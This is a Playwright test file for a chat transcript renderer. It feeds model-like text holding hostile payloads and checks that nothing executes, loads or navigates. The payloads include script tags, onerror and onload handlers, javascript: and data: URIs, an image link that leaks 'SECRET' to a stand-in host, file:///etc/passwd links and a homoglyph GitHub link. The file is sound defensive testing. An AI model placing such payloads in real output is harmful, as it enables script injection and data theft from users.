import assert from 'node:assert/strict';
import type { Browser } from 'playwright-core';
import type { ModelEvent } from '../../../src/shared/events';
import {
	launchBrowser,
	openPage,
	type PageHarness,
	records,
	snapshot,
} from '../../support/pageHarness/pageHarness';
import { answer } from '../../support/pageHarness/sampleChat';

/** Model text that wants something, and what a person must be able to read of it. */
const cases: readonly (readonly [name: string, text: string, readable: string])[] = [
	[
		'S11: a script',
		'Hi <script>window.pwned = 1</script> there',
		'<script>window.pwned = 1</script>',
	],
	[
		'S11: a script on its own lines',
		'<script>\nwindow.pwned = 1\n</script>\n\nNext',
		'window.pwned = 1',
	],
	[
		'S11: an image with a handler',
		'a <img src=x onerror="window.pwned=1"> b',
		'<img src=x onerror=',
	],
	['S11: a bare tag with a handler', 'a <kbd onclick="pwned=1">K</kbd> b', '<kbd onclick='],
	['S11: a bare tag that is not one', 'a <kbd\nid=x>K <sub/x> <brx>', '<brx>'],
	['S11: a frame', '<iframe src="https://decoy.example/f"></iframe>', '<iframe src='],
	[
		'S11: a form',
		'<form action="https://decoy.example"><button>Go</button></form>',
		'<form action=',
	],
	['S11: styles', '<style>@import "https://decoy.example/s.css";</style>', '@import'],
	[
		'S11: in a table',
		'| a |\n| --- |\n| <img src=https://decoy.example/t onerror=pwned=1> |',
		'<img',
	],
	['S11: in a list', '- <svg onload="window.pwned=1">\n- b', '<svg onload'],
	[
		'S11: in a code block',
		'```html\n<img src=x onerror="window.pwned=1">\n```',
		'<img src=x onerror',
	],
	['S11: in the name of a language', '```"><img/src=x/onerror=pwned=1>\ncode\n```', 'code'],
	[
		'S11: in the text of a link',
		'[<img src=x onerror=pwned=1>](https://example.com)',
		'<img src=x',
	],
	['S11: in a title', '[a](https://example.com "\\"><img src=x onerror=pwned=1>")', 'a'],
	['S12: an image', '![x](https://decoy.example/?d=SECRET)', 'https://decoy.example/?d=SECRET'],
	[
		'S12: an image by reference',
		'![x][i]\n\n[i]: https://decoy.example/?d=SECRET',
		'decoy.example/?d=SECRET',
	],
	[
		'S12: an image in a link',
		'[![x](https://decoy.example/i.png)](https://example.com)',
		'decoy.example/i.png',
	],
	['S12: an image as data', '![x](data:image/svg+xml;base64,PHN2Zy8+)', 'data:image/svg+xml'],
	[
		'S13: a command',
		'[ok](command:workbench.action.terminal.sendSequence?%5B1%5D)',
		'command:workbench.action',
	],
	['S14: javascript', '[ok](javascript:window.pwned=1)', 'javascript:window.pwned=1'],
	[
		'S14: javascript, disguised',
		'[ok](java&#115;cript:alert(1)) [b](JaVaScRiPt:alert)',
		'JaVaScRiPt:alert',
	],
	['S14: javascript between angles', '[ok](<java\tscript:alert(1)>)', 'ok'],
	['S14: data', '[ok](data:text/html;base64,PHNjcmlwdD4=)', 'data:text/html'],
	['S14: vscode', '[ok](vscode://settings/x) <vscode:extension/x>', 'vscode://settings/x'],
	['S14: file', '[ok](file:///etc/passwd)', 'file:///etc/passwd'],
	['S14: a path', '[ok](//decoy.example/x) [b](/etc/passwd) [c](C:\\x)', '//decoy.example/x'],
	[
		'S16: a tag in pieces',
		'text <im' + 'g src=https://decoy.example/x onerror=pwned=1> end',
		'<img src=',
	],
	['S19: a diagram', '```mermaid\ngraph TD; A-->B; click A "javascript:alert(1)"\n```', 'graph TD'],
	[
		'S19: a picture with foreign content',
		'<svg><foreignObject><body onload="pwned=1"/></foreignObject><image href="https://decoy.example/i"/></svg>',
		'<foreignObject>',
	],
	['S19: a formula', '$$\\href{javascript:alert(1)}{x}$$', 'javascript:alert(1)'],
];

/** Runs in the page: streams `text` by single characters, a frame for each, and looks after every one. */
async function streamAndLook({ id, text }: { id: string; text: string }): Promise<string[]> {
	const look = (globalThis as unknown as { dangers: () => string[] }).dangers;
	for (const character of text) {
		const event = { type: 'blockDelta', id: '0', text: character };
		const record = { type: 'model', turn: id, event };
		const data = { type: 'records', chatId: 'chat1', records: [record] };
		window.dispatchEvent(new MessageEvent('message', { data }));
		await new Promise((resolve) => setTimeout(resolve));
		const found = look();
		if (found.length > 0) return found;
	}
	return [];
}

/** Runs in the page: everything in the transcript that could load, run or navigate. */
function dangers(): string[] {
	const found: string[] = [];
	if ('pwned' in globalThis) found.push('code ran');
	const root = document.querySelector('[data-testid="transcript"]');
	const allowed = new Set(['BUTTON', 'SVG', 'PATH']);
	for (const element of root?.querySelectorAll('*') ?? []) {
		const name = element.tagName.toUpperCase();
		const isOurs =
			allowed.has(name) &&
			element.closest('.codeBar, .answerFooter, .disclosureHead, .drawing > .picture');
		if (
			/^(SCRIPT|IMG|IFRAME|FORM|STYLE|OBJECT|EMBED|LINK|META|BASE|INPUT|FOREIGNOBJECT|IMAGE)$/.test(
				name,
			)
		) {
			found.push(`<${name}>`);
		}
		if (allowed.has(name) && !isOurs) found.push(`foreign <${name}>`);
		for (const attribute of element.attributes) {
			// How wide a drawing is at least; its own script says so.
			if (element.matches('.drawing > .picture') && /^min-width: \d+px;$/.test(attribute.value))
				continue;
			if (/^(on|href$|src$|srcset$|action$|formaction$|xlink|style$)/i.test(attribute.name)) {
				found.push(`${attribute.name}=${attribute.value}`);
			}
		}
		const target = element.getAttribute('data-href');
		if (target !== null && !/^(https?|mailto):/.test(target)) found.push(`link to ${target}`);
	}
	return found;
}

describe('what a model writes stays inert', function () {
	this.timeout(60_000);
	let browser: Browser;
	let harness: PageHarness;

	before(async () => {
		browser = await launchBrowser();
		harness = await openPage(browser, { instantFrames: true });
		await harness.page.evaluate(`globalThis.dangers = ${dangers}`);
	});
	after(() => browser.close());

	const delta = (id: string, event: ModelEvent) =>
		records({ type: 'model', turn: id, event } as const);

	for (const [index, [name, text, readable]] of cases.entries()) {
		it(`${name}: at every frame of a stream of single characters`, async () => {
			const id = `a${index}`;
			await harness.send(
				snapshot([answer(id, '', { status: 'running' })], { runningTurn: id }),
				delta(id, { type: 'blockStart', id: '0', block: { kind: 'text' } }),
			);
			const found = await harness.page.evaluate(streamAndLook, { id, text });
			assert.deepEqual(found, []);
			await harness.send(
				delta(id, { type: 'blockEnd', id: '0' }),
				delta(id, { type: 'finish', reason: 'stop' }),
			);
			assert.deepEqual(await harness.page.evaluate(dangers), []);
			const shown = await harness.page.getByTestId('turn-assistant').textContent();
			assert(shown?.includes(readable), `shown: ${shown}`);
			assert.deepEqual(harness.requests, []);
		});
	}

	it('S12: a picture of the model is shown only as data of a known kind', async () => {
		const png =
			'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';
		const image = (mime: string, data: string) =>
			({ kind: 'image', id: mime + data.length, step: 1, mime, data }) as const;
		await harness.send(
			snapshot([
				answer('i', '', {
					blocks: [
						image('image/png', png),
						image('image/svg+xml', png),
						image('image/png', 'https://decoy.example/x'),
						image('text/html', png),
					],
				}),
			]),
		);
		const sources = await harness.page
			.locator('.picture')
			.evaluateAll((all) => all.map((each) => each.getAttribute('src')));
		assert.deepEqual(sources, [`data:image/png;base64,${png}`]);
		assert.deepEqual(harness.requests, []);
	});

	it('S15: a link carries its true host in ASCII and is opened by the host only', async () => {
		await harness.send(snapshot([answer('l', '[https://github.com](https://gіthub.com/x)')]));
		const link = harness.page.getByRole('link', { name: 'https://github.com' });
		assert.match((await link.getAttribute('title')) ?? '', /^https:\/\/xn--/);
		await link.click();
		const message = await harness.waitFor('openLink');
		assert.match(message.href, /^https:\/\/xn--/);
		const before = (await harness.posted()).length;
		await link.focus();
		await harness.page.keyboard.press('Enter');
		await harness.waitFor('openLink', before);
		assert.equal(harness.page.url(), 'http://page.invalid/');
	});

	it('S18: messages of an unknown kind or shape change nothing and throw nothing', async () => {
		await harness.send(snapshot([answer('k', 'Still here.')]));
		await harness.sendRaw(
			...[null, 1, 'x', [], {}, { type: 'nope' }, { type: '__proto__' }, { type: 'toString' }],
			...[{ type: 'snapshot' }, { type: 'snapshot', chat: {}, turns: [null], older: 0, state: {} }],
			...[
				{ type: 'state', state: { mode: 'ready' } },
				{ type: 'records', chatId: 'chat1' },
			],
			{ type: 'records', chatId: 'chat1', records: [null, 3] },
			{
				type: 'records',
				chatId: 'chat1',
				records: [{ type: 'nope' }, { type: 'model', turn: 'k' }],
			},
			{ type: 'mentions', request: 1, items: [{}] },
		);
		assert.match(
			(await harness.page.getByTestId('transcript').textContent()) ?? '',
			/Still here\./,
		);
		assert(harness.complaints.every((line) => line.startsWith('A record could not be read')));
	});

	it('S17: the page runs under a strict content policy without a complaint', async () => {
		const own = await openPage(browser);
		await own.send(snapshot([answer('p', 'Fine: `code`.\n\n```ts\nconst a = 1;\n```')]));
		assert.deepEqual(own.complaints, []);
		await own.close();
	});
});
